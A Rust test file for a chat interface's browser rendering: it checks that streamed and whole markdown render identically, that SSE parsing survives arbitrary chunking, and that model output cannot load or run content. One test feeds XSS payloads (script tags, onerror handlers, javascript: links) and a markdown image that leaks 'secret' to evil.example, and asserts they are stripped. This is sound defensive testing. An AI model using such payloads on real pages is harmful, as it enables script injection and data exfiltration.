//! What a model writes, on its way to the screen, in a real browser: nothing of it loads, runs or leads away, and an
//! answer that comes in pieces looks in the end as one that comes at once.

use serde_json::{Value, json};

use crate::support::browser::Browser;
use crate::support::examples::examples;

/// Renders each text twice, at once and letter by letter, and gives both results.
async fn rendered(texts: &[&str]) -> Vec<[String; 2]> {
    let browser = Browser::start().await;
    browser.goto(&examples().server.url("/")).await;
    let script = format!(
        "const {{ answerNodes, patch }} = await import('/web/chat/markdown.js');
        const {{ answerSegments }} = await import('/web/chat/answer-text.js');
        const chip = (n) => Object.assign(document.createElement('button'), {{ textContent: n }});
        const citations = [{{ n: 1 }}, {{ n: 2 }}];
        const nodes = (text, state) => answerNodes(answerSegments({{ state, text, sentences: [], citations }}), location.origin + '/');
        return {}.map((text) => {{
          const [whole, grown] = [document.createElement('div'), document.createElement('div')];
          patch(whole, [], nodes(text, 'done'), chip);
          let before = [];
          for (let end = 1; end <= text.length; end += 1) {{
            const now = nodes(text.slice(0, end), end === text.length ? 'done' : 'streaming');
            patch(grown, before, now, chip);
            before = now;
          }}
          return [whole.innerHTML, grown.innerHTML];
        }})",
        json!(texts)
    );
    let found = browser.promise(&script).await;
    browser.close().await;
    serde_json::from_value::<Vec<[String; 2]>>(found.clone()).unwrap_or_else(|_| panic!("{found}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn markdown_is_shown_and_streams_to_the_same() {
    let texts = [
        "Take **five days** of *leave*. [1]\n\n- first `code` [2]\n- second\n\n1. one\n2. two",
        "# Heading\nA line\nand another [1, 2]\n\n```\nlet a = **b**;\n```\nend",
        "2 * 3 * 4 and snake_case_name and [3] stay",
    ];
    let shown = rendered(&texts).await;
    for [whole, grown] in &shown {
        assert_eq!(whole, grown);
    }
    let li = |text: &str| format!("<li class=\"\">{text}</li>");
    assert_eq!(
        shown[0][0],
        format!(
            "<p>Take <strong>five days</strong> of <em>leave</em>.<button>1</button></p><ul>{}{}</ul><ol start=\"1\">{}{}</ol>",
            li("first <code>code</code><button>2</button>"),
            li("second"),
            li("one"),
            li("two")
        )
    );
    assert!(shown[1][0].contains("<pre>let a = **b**;\n</pre>"), "{}", shown[1][0]);
    assert_eq!(shown[2][0], "<p>2 * 3 * 4 and snake_case_name and [3] stay</p>");
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_model_loads_runs_or_leads_away() {
    let texts = [
        "<img src=x onerror=alert(1)><script>alert(1)</script>",
        "![secret](https://evil.example/?q=secret)",
        "[click](https://evil.example/) [run](javascript:alert(1)) [data](data:text/html,x) [near](//evil.example/)",
        "[own](/v1/documents/1/original) [![a](https://evil.example/b.png)](https://evil.example)",
        "\u{E000}9\u{E001} \u{E002}**x\u{E003}",
    ];
    for [whole, grown] in rendered(&texts).await {
        for html in [whole, grown] {
            assert!(!html.contains("<img") && !html.contains("<script") && !html.contains("onerror=\""), "{html}");
            for link in html.split("<a ").skip(1) {
                assert!(link.starts_with("href=\"/v1/documents/1/original\""), "{html}");
            }
            assert!(!html.contains("href=\"https://evil"), "{html}");
        }
    }
}

/// The stream of events may be cut anywhere.
#[tokio::test(flavor = "multi_thread")]
async fn events_are_read_whatever_their_pieces() {
    let browser = Browser::start().await;
    browser.goto(&examples().server.url("/")).await;
    let read = browser
        .promise(
            "const { sseEvents } = await import('/web/chat/sse.js');
            const text = '\\uFEFFevent: a\\r\\ndata: x:\u{4F60}\\r\\ndata:y\\r\\n\\r\\n: note\\nid: 7\\ndata: {\"z\": \"\u{2028}\"}\\n\\nevent: lost\\ndata: half';
            const bytes = new TextEncoder().encode(text);
            const all = [];
            for (let size = 1; size <= bytes.length; size += 1) {
              const stream = new ReadableStream({ start(to) {
                for (let at = 0; at < bytes.length; at += size) to.enqueue(bytes.slice(at, at + size));
                to.close();
              } });
              const events = [];
              for await (const event of sseEvents(stream)) events.push(event);
              all.push(JSON.stringify(events));
            }
            return [...new Set(all)]",
        )
        .await;
    let expected =
        json!([{"event": "a", "data": "x:\u{4F60}\ny"}, {"event": "message", "data": "{\"z\": \"\u{2028}\"}"}]);
    let read: Vec<String> = serde_json::from_value(read.clone()).unwrap_or_else(|_| panic!("{read}"));
    assert_eq!(read.len(), 1, "{read:?}");
    assert_eq!(serde_json::from_str::<Value>(&read[0]).expect("JSON"), expected);
    browser.close().await;
}
